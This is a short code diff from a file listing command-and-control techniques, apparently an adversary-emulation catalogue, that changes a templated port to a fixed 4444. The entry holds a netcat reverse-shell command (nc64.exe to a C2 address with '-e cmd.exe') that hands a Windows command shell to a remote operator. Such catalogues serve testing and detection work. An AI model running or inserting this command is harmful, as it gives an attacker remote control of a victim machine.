@@ -379,7 +379,7 @@ export const commandAndControl = [
     // -e hands the connection to a cmd.exe child: the operator's shell.
     v("ncat", [
       {
-        cmd: "{{tools}}\\nc64.exe {{c2ip}} {{port}} -e cmd.exe",
+        cmd: "{{tools}}\\nc64.exe {{c2ip}} 4444 -e cmd.exe",
         net: [["{{c2ip}}", 4444]],
         as: "nc",
         keep: true,
